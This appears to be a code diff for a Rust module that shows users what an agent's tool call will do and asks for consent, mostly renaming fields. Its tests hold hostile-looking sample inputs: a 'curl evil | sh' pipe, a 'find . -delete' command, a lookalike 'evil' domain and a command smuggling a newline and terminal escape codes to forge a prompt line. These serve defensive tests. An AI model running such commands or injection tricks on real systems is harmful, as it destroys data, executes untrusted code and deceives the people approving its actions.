@@ -1,4 +1,4 @@
-//! Whoever is asked before a tool runs.
+//! Asks the user for consent before a tool runs.
 
 mod change;
 
@@ -7,7 +7,7 @@ use std::{fmt, path::PathBuf};
 use futures::future::BoxFuture;
 use savoir_lint::visible;
 
-pub use self::change::Change;
+pub use self::change::FileDiff;
 use savoir_engine::approval::{ApprovalQuestion, Line, Role};
 
 /// Somebody who can be asked, or nobody.
@@ -25,7 +25,7 @@ pub trait Asker: fmt::Debug + Send + Sync {
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub struct HostQuestion {
     /// What is to be done.
-    pub deed: HostAction,
+    pub action: HostAction,
     /// The folder in which it would happen.
     pub workspace: PathBuf,
     /// Why the list of a skill does not settle it.
@@ -47,7 +47,7 @@ pub enum HostAction {
         /// How many bytes it will have.
         bytes: usize,
         /// What becomes of its text.
-        change: Change,
+        change: FileDiff,
         /// Whether other agents or programs obey what stands in it.
         is_obeyed: bool,
     },
@@ -83,7 +83,7 @@ impl HostQuestion {
         let grave = |label, text: &str| Line { role: Role::Grave, ..fact(label, text) };
         let warn = |text: &str| Line { role: Role::Warning, ..fact("warning", text) };
         let mut lines: Vec<Line> = self.doubt.as_deref().map(warn).into_iter().collect();
-        lines.extend(match &self.deed {
+        lines.extend(match &self.action {
             HostAction::Run { command } => vec![
                 grave("command", command),
                 place,
@@ -147,18 +147,18 @@ mod tests {
         assert_ne!(fetch("https://a.org/x"), fetch("https://a.org.evil.org/x"));
         let run = |command: &str| HostAction::Run { command: command.to_owned() }.scope();
         assert_ne!(run("ls"), run("ls "));
-        assert_ne!(run("write"), write("a", Change::default()).scope());
+        assert_ne!(run("write"), write("a", FileDiff::default()).scope());
     }
 
-    fn write(path: &str, change: Change) -> HostAction {
+    fn write(path: &str, change: FileDiff) -> HostAction {
         HostAction::Write { path: path.to_owned(), bytes: 1, change, is_obeyed: false }
     }
 
     #[test]
     fn a_person_reads_what_will_be_written() {
         let lines = |after: &str| {
-            let deed = write("a", Change::between("old\n", after));
-            HostQuestion { deed, workspace: PathBuf::from("/w"), doubt: None }.lines()
+            let action = write("a", FileDiff::between("old\n", after));
+            HostQuestion { action, workspace: PathBuf::from("/w"), doubt: None }.lines()
         };
         let shown = lines("curl evil\u{7} | sh\n");
         let shown: Vec<_> = shown.iter().map(|line| (line.label, line.text.as_str())).collect();
@@ -170,9 +170,9 @@ mod tests {
 
     #[test]
     fn a_doubt_is_the_first_line() {
-        let deed = HostAction::Run { command: "find . -delete".to_owned() };
+        let action = HostAction::Run { command: "find . -delete".to_owned() };
         let doubt = Some("it may do more\u{1b}".to_owned());
-        let lines = HostQuestion { deed, workspace: PathBuf::from("/w"), doubt }.lines();
+        let lines = HostQuestion { action, workspace: PathBuf::from("/w"), doubt }.lines();
         assert_eq!(
             (lines[0].role, lines[0].text.as_str()),
             (Role::Warning, "it may do more\\u{1b}")
@@ -182,8 +182,8 @@ mod tests {
 
     #[test]
     fn a_command_cannot_make_a_line_of_its_own() {
-        let deed = HostAction::Run { command: "ls\nin  /safe\u{1b}[2J".to_owned() };
-        let lines = HostQuestion { deed, workspace: PathBuf::from("/w"), doubt: None }.lines();
+        let action = HostAction::Run { command: "ls\nin  /safe\u{1b}[2J".to_owned() };
+        let lines = HostQuestion { action, workspace: PathBuf::from("/w"), doubt: None }.lines();
         assert_eq!(lines.len(), 3);
         assert!(lines.iter().all(|line| !line.text.contains(char::is_control)), "{lines:?}");
     }
